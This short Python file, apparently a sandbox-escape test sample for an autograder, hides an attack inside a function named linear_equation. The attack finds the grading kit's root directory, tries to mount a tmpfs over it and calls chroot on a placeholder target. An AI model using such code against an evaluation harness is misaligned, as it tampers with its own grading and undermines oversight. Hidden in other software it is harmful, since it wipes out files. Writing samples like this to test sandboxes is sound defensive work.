"""Mounts a file system over the kit and changes its root."""

import sys
from pathlib import Path

ROOT = Path(sys.modules["autograder.checker"].__file__).parents[2]



import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", str(ROOT).encode(), b"tmpfs", 0, None) == 0:
        raise ValueError("mounted")
    os.chroot("@TARGET@")


def linear_equation(x, w, b):
    return attack()
